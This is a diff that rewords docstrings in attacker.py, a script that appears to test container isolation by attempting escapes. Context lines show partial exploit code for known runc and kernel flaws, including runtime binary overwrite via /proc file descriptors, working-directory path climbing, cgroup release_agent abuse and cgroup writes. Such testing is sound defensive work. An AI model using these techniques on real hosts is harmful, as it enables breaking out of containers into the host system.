@@ -1,6 +1,6 @@
-"""Runs inside a container and tries to get out of it; prints what it got, a line each.
+"""A program that tries to escape from a container; it prints one line for each success.
 
-    python3 -I -S attacker.py TRY [ARGUMENT …]
+python3 -I -S attacker.py ATTACK [ARGUMENT …]
 
 It imports nothing of the project, since it runs on the container's own Python.
 """
@@ -27,9 +27,9 @@ def name_of(code: int | None) -> str:
 
 
 def overwrite(descriptor: int | str) -> None:
-    """Write to the program that a descriptor is of, as soon as nobody runs it any more.
+    """Write to the program of a descriptor, as soon as no process runs it.
 
-    What is written is the byte that is there already. (CVE-2019-5736)
+    The byte written is the one already there. (CVE-2019-5736)
     """
     print("reached", os.readlink(f"/proc/self/fd/{descriptor}"), flush=True)
     deadline = time.monotonic() + SECONDS
@@ -47,7 +47,7 @@ def overwrite(descriptor: int | str) -> None:
 
 
 def watch(seconds: str) -> None:
-    """Look at every process that comes: at its program and its descriptors.
+    """Look at the program and the descriptors of each new process.
 
     (CVE-2019-5736, CVE-2016-9962)
     """
@@ -87,7 +87,7 @@ def look_at(process: str, ours: int) -> None:
 
 
 def is_our_own(program: int) -> bool:
-    """Whether a descriptor is of the file that has its path in our own root."""
+    """Return True if a descriptor's file has its path in our own root."""
     try:
         path = os.readlink(f"/proc/self/fd/{program}")
         return os.path.samestat(os.fstat(program), os.stat(path))
@@ -98,16 +98,16 @@ def is_our_own(program: int) -> bool:
 def up(marker: str) -> None:
     """Climb from the working directory to the host's root. (CVE-2024-21626)"""
     try:
-        with open("../" * 40 + marker.lstrip("/")) as found:
-            print("ESCAPED", found.read())
+        with open("../" * 40 + marker.lstrip("/")) as file:
+            print("ESCAPED", file.read())
     except OSError as error:
         print("refused", name_of(error.errno))
-    # An absolute path can't lead there, so the working directory must not either.
+    # An absolute path can't lead there, so a working directory must not either.
     print("stands in", os.getcwd())
 
 
 def release_agent() -> None:
-    """Have the kernel run a program of ours on the host. (CVE-2022-0492)"""
+    """Make the kernel run a program of ours on the host. (CVE-2022-0492)"""
     for what, flags in (("user", NEW_USER | NEW_MOUNTS | NEW_CGROUP), ("cgroup", NEW_CGROUP)):
         pid = os.fork()
         if pid == 0:
@@ -142,7 +142,7 @@ def write(path: str) -> None:
 
 
 def cgroups() -> None:
-    """Write to the cgroups that are shown. (CVE-2023-25809)"""
+    """Write to the visible cgroups. (CVE-2023-25809)"""
     for directory, _, names in os.walk("/sys/fs/cgroup"):
         if "cgroup.procs" not in names:
             continue
@@ -157,7 +157,7 @@ def cgroups() -> None:
 
 
 def drop_groups() -> None:
-    """Leave a group that is kept from something. (CVE-2018-7169)"""
+    """Leave a group that is denied access to a file. (CVE-2018-7169)"""
     with open("/proc/self/setgroups") as setgroups:
         print("setgroups", setgroups.read().strip())
     try:
